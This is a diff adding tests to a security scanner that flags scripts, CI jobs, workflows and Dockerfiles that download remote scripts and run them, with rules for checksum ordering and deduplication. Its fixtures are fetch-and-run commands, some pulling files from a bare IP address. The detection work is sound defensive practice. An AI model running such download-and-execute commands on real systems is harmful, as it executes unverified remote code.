@@ -77,6 +77,13 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
     expect(url('curl -fsSL https://sh.rustup.rs | sh -s -- -y')).toBeNull();
     expect(url('curl -LO https://github.com/org/tool/releases/download/v1.2/install.sh', 'echo "$SUM  install.sh" | sha256sum -c', 'sh install.sh')).toBeNull();
   });
+  it('counts a checksum check only between the download and the run: one after the run, or of a file fetched before, vouches for nothing', () => {
+    expect(url('curl -LO https://tools.example-dev.io/install.sh', 'sh install.sh', 'sha256sum -c SHA256SUMS')).toBe('https://tools.example-dev.io/install.sh');
+    expect(url('curl -fsSLo node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz', 'echo "$NODE_SUM  node.tgz" | sha256sum -c -', 'curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', 'bash setup.sh')).toBe('https://tools.example-dev.io/setup.sh');
+    // Checked between, by a checksum list or a signature.
+    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'curl -fsSLO https://tools.example-dev.io/SHA256SUMS', 'sha256sum -c --ignore-missing SHA256SUMS', 'sh install.sh')).toBeNull();
+    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'gpg --verify install.sh.asc install.sh', 'sh install.sh')).toBeNull();
+  });
   it('is reported as curl-pipe-shell with the pipe\'s severities: medium in a script, high in a CI pipeline, medium there from a vendor\'s installer; a gist is downloaded-binary-run\'s', () => {
     const patch = (...added: string[]) => ['@@ -1,1 +1,' + String(added.length + 1) + ' @@', ' #!/bin/sh', ...added.map((l) => `+${l}`)].join('\n');
     const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
@@ -106,5 +113,71 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN apt-get update\nRUN bash /tmp/setup.sh')).toEqual([['high', 3]]);
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN cat /tmp/setup.sh')).toEqual([]);
     expect(docker('RUN curl -fsSLo /tmp/t.tgz https://github.com/org/tool/releases/download/v1.2/tool.tgz && tar xzf /tmp/t.tgz -C /usr/local/bin')).toEqual([]);
+  });
+  it('reports each distinct script a Dockerfile downloads and runs, once per source', () => {
+    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line, f.key.split('\u0000')[2]]);
+    // Two installers, from two hosts, in two RUNs: both.
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/agent.sh https://cdn.agent-mirror.dev/agent.sh && sh /tmp/agent.sh')).toEqual([
+      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/setup.sh'],
+      ['curl-pipe-shell', 'high', 4, 'script:https://cdn.agent-mirror.dev/agent.sh'],
+    ]);
+    // A vendor's installer and another host's script in one RUN: each with its own severity.
+    expect(docker("RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y && curl -fsSLo /tmp/b.sh https://tools.example-dev.io/bootstrap.sh && . /tmp/b.sh")).toEqual([
+      ['curl-pipe-shell', 'medium', 3, 'script:https://sh.rustup.rs'],
+      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/bootstrap.sh'],
+    ]);
+    // After a script fetched with ADD and run, a different one fetched with curl and run.
+    expect(docker('ADD https://get.example-tools.dev/install.sh /tmp/install.sh\nRUN sh /tmp/install.sh\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
+      ['curl-pipe-shell', 'high', 3, 'add:https://get.example-tools.dev/install.sh'],
+      ['curl-pipe-shell', 'high', 5, 'script:https://tools.example-dev.io/setup.sh'],
+    ]);
+    // Next to a file from a bare IP run (downloaded-binary-run's), a script from a named host run.
+    expect(docker('RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
+      ['downloaded-binary-run', 'high', 3, 'RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h'],
+      ['curl-pipe-shell', 'high', 4, 'script:https://tools.example-dev.io/setup.sh'],
+    ]);
+  });
+  it('reports each distinct script a script or CI pipeline downloads and runs, but those the base side already ran', () => {
+    const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
+    const first = 'curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.2/setup.sh && sh /tmp/a.sh';
+    const second = 'curl -fsSL -o /tmp/b.sh https://cdn.agent-mirror.dev/agent.sh && . /tmp/b.sh';
+    expect(found('scripts/install.sh', ['@@ -1,1 +1,3 @@', ' #!/bin/sh', `+${first}`, `+${second}`].join('\n'))).toEqual([
+      ['curl-pipe-shell', 'medium', 2],
+      ['curl-pipe-shell', 'medium', 3],
+    ]);
+    // The base ran the first (at another version): only the second is new.
+    expect(found('scripts/install.sh', ['@@ -1,2 +1,3 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.1/setup.sh && sh /tmp/a.sh', `+${first}`, `+${second}`].join('\n'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
+    // Beside a gist's script (downloaded-binary-run's), a named host's script run in a CI pipeline.
+    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', '+    - curl -fsSL -o "$T" https://gist.githubusercontent.com/someone/abc/raw/s.sh && . "$T"', `+    - ${second}`].join('\n'))).toEqual([
+      ['curl-pipe-shell', 'high', 4],
+      ['downloaded-binary-run', 'high', 3],
+    ]);
+  });
+  it('reports each distinct script a workflow job downloads and runs, once per source', () => {
+    const workflow = (steps: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', ...steps.map((l) => `      - run: ${l}`), ''].join('\n');
+    const wf = (steps: string[]) => extractWorkflow(workflow(steps), '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line]);
+    // A vendor's installer, then another host's script: each, with its own severity.
+    expect(wf(['curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh && sh uv-install.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && . /tmp/s.sh'])).toEqual([
+      ['curl-pipe-shell', 'medium', 6],
+      ['curl-pipe-shell', 'high', 7],
+    ]);
+    // The same script fetched and run in two steps, or at another version: one.
+    expect(wf(['curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2/setup.sh && . /tmp/s.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3/setup.sh && . /tmp/s.sh'])).toEqual([['curl-pipe-shell', 'high', 6]]);
+    // Beside a bare IP's file run (downloaded-binary-run's), a named host's script run.
+    expect(wf(['curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && bash /tmp/s.sh'])).toEqual([
+      ['curl-pipe-shell', 'high', 7],
+      ['downloaded-binary-run', 'high', 6],
+    ]);
+  });
+  it('reports the same download once: the same script in two stages, the same source at another version, a bare IP\'s script', () => {
+    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm AS build\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.line]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh')).toEqual([['curl-pipe-shell', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/s.sh http://45.139.104.115/s.sh && sh /tmp/s.sh')).toEqual([['downloaded-binary-run', 3]]);
+    // Another RUN's archive checked with sha256sum vouches for nothing the next RUN fetches and runs.
+    expect(docker('RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SUM  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 4]]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && echo "$SETUP_SUM  /tmp/setup.sh" | sha256sum -c - && bash /tmp/setup.sh')).toEqual([]);
+    // A second script downloaded but only read, and one checked: nothing more.
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/env.sh https://tools.example-dev.io/env.sh && cat /tmp/env.sh')).toEqual([['curl-pipe-shell', 3]]);
   });
 });
